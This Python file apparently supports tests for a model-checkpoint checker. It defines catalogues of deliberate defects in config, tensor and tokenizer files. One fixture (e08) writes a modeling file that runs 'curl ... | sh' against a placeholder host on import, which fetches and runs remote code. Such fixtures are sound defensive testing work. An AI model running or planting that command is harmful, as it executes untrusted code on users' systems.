"""Defects between the tensors and config.json, of the configuration, and of the tokenizer."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
from support.corpus.controls import BERT, CHAT
from support.corpus.editing import (
    Change,
    Defect,
    Stored,
    every,
    numbers,
    remove,
    rewrite_json,
    stored,
    tensors,
    with_json,
    write,
)

CONFIG, GENERATION, TOKENIZER, SETTINGS = (
    "config.json",
    "generation_config.json",
    "tokenizer.json",
    "tokenizer_config.json",
)
DENSE = "bert.encoder.layer.1.intermediate.dense.weight"
PLAIN_MODEL = '''from transformers import PreTrainedModel


class AcmeModel(PreTrainedModel):
    """A model of our own."""
'''


def rows(folder: Path) -> int:
    return int(json.loads((folder / CONFIG).read_text())["vocab_size"])


def drop(*names: str) -> Change:
    return tensors(lambda found: [found.pop(name) for name in names])


def renamed(rename: Callable[[str], str]) -> Change:
    def change(found: dict[str, Stored]) -> None:
        again = {rename(name): tensor for name, tensor in found.items()}
        found.clear()
        found.update(again)

    return tensors(change)


def transposed(found: dict[str, Stored]) -> None:
    found[DENSE] = stored(np.ascontiguousarray(numbers(found[DENSE]).T))


def twenty_tokens(document: dict[str, Any]) -> None:
    vocabulary = document["model"]["vocab"]
    vocabulary |= {f"acme{number}": len(vocabulary) + number for number in range(20)}


def token_past_the_end(folder: Path) -> None:
    token = {"id": rows(folder), "content": "<acme>", "single_word": False, "lstrip": False}
    token |= {"rstrip": False, "normalized": False, "special": True}
    rewrite_json(TOKENIZER, lambda document: document["added_tokens"].append(token))(folder)


def cut_in_half(folder: Path) -> None:
    raw = (folder / TOKENIZER).read_bytes()
    (folder / TOKENIZER).write_bytes(raw[: len(raw) // 2])


def more_rows(folder: Path) -> None:
    with_json(CONFIG, vocab_size=rows(folder) + 10)(folder)


def own_code(source: str) -> Change:
    auto_map = {"AutoModelForCausalLM": "modeling_acme.AcmeModel"}
    return every(with_json(CONFIG, auto_map=auto_map), write("modeling_acme.py", source))


TWO_LABELS = with_json(CONFIG, id2label={"0": "negative", "1": "positive"}, label2id={"negative": 0, "positive": 1})

ARCHITECTURE = {
    "d01": Defect("config hidden_size=48, tensors have 32", BERT, with_json(CONFIG, hidden_size=48)),
    "d02": Defect("the tokenizer has 20 tokens more than the embedding", BERT, rewrite_json(TOKENIZER, twenty_tokens)),
    "d03": Defect("config vocab_size is 10 more than the embedding's rows", BERT, more_rows),
    "d04": Defect("the classifier is not in the file", BERT, drop("classifier.weight", "classifier.bias")),
    "d05": Defect("one layer weight is not in the file", BERT, drop(DENSE)),
    "d06": Defect(
        "tensors that the architecture does not have",
        BERT,
        tensors(lambda found: found.update({"value_head.weight": found["classifier.weight"]})),
    ),
    "d07": Defect("config says float16, the tensors are F32", BERT, with_json(CONFIG, dtype="float16")),
    "d08": Defect("config num_hidden_layers=3, weights have 2", BERT, with_json(CONFIG, num_hidden_layers=3)),
    "d09": Defect("config num_hidden_layers=1, weights have 2", BERT, with_json(CONFIG, num_hidden_layers=1)),
    "d10": Defect("id2label has 2 entries, the head has 3 rows", BERT, TWO_LABELS),
    "d11": Defect("num_labels=5 beside an id2label of 3", BERT, with_json(CONFIG, num_labels=5)),
    "d13": Defect("every tensor name has the DDP prefix 'module.'", BERT, renamed("module.{}".format)),
    "d15": Defect(
        "tied embeddings, and an lm_head.weight that differs", CHAT, with_json(CONFIG, tie_word_embeddings=True)
    ),
    "d16": Defect("untied embeddings, and no lm_head.weight", CHAT, drop("lm_head.weight")),
    "d17": Defect(
        "architectures says BertForMaskedLM, the weights are a classifier's",
        BERT,
        with_json(CONFIG, architectures=["BertForMaskedLM"]),
    ),
    "d18": Defect("a weight is stored transposed", BERT, tensors(transposed)),
}

CONFIGURATION = {
    "e01": Defect("no config.json", BERT, remove(CONFIG)),
    "e02": Defect(
        "config.json has a trailing comma",
        BERT,
        lambda folder: write(CONFIG, (folder / CONFIG).read_text().rstrip().removesuffix("}") + ",\n}\n")(folder),
    ),
    "e03": Defect("model_type is one that transformers does not have", BERT, with_json(CONFIG, model_type="acmebert")),
    "e04": Defect("no architectures in config.json", BERT, with_json(CONFIG, architectures=None)),
    "e05": Defect(
        "architectures names a class that does not exist", BERT, with_json(CONFIG, architectures=["BertForAcme"])
    ),
    "e06": Defect("auto_map with a modeling file", CHAT, own_code(PLAIN_MODEL)),
    "e08": Defect(
        "auto_map's modeling file runs a shell command on import",
        CHAT,
        own_code(f'import os\n\n{PLAIN_MODEL}\n\nos.system("curl -s https://acme.example/x | sh")\n'),
    ),
    "e09": Defect(
        "config.json carries a local path", BERT, with_json(CONFIG, _name_or_path="/home/jane/checkpoints/bert-base")
    ),
    "e10": Defect("generation_config.json is not JSON", CHAT, write(GENERATION, '{"eos_token_id": 3,,}\n')),
    "e11": Defect(
        "generation_config: temperature -1, top_p 3, num_beams 0",
        CHAT,
        with_json(GENERATION, do_sample=True, temperature=-1.0, top_p=3.0, num_beams=0),
    ),
    "e12": Defect(
        "generation_config: do_sample=false with temperature and top_p set",
        CHAT,
        with_json(GENERATION, do_sample=False, temperature=0.6, top_p=0.9),
    ),
    "e14": Defect("hidden_size is a string", BERT, with_json(CONFIG, hidden_size="32")),
    "e15": Defect("hidden_size is not a multiple of the heads", BERT, with_json(CONFIG, num_attention_heads=3)),
}

TOKENIZERS = {
    "f01": Defect("no tokenizer files", BERT, remove(TOKENIZER, SETTINGS)),
    "f02": Defect("tokenizer.json is cut in half", BERT, cut_in_half),
    "f03": Defect("config pad_token_id=99999 is past the embedding", CHAT, with_json(CONFIG, pad_token_id=99999)),
    "f04": Defect(
        "the tokenizer's eos is <|im_end|> (3), config and generation_config say 1",
        CHAT,
        every(with_json(CONFIG, eos_token_id=1), with_json(GENERATION, eos_token_id=1)),
    ),
    "f05": Defect("the tokenizer's pad is <pad> (0), config says 2", CHAT, with_json(CONFIG, pad_token_id=2)),
    "f06": Defect(
        "tokenizer_class names a class that does not exist", BERT, with_json(SETTINGS, tokenizer_class="AcmeTokenizer")
    ),
    "f07": Defect("pad_token is '[PADX]', not in the vocabulary", BERT, with_json(SETTINGS, pad_token="[PADX]")),
    "f08": Defect("an added token has an id past the embedding", BERT, token_past_the_end),
    "f10": Defect("tokenizer_config.json without a vocabulary", BERT, remove(TOKENIZER)),
}
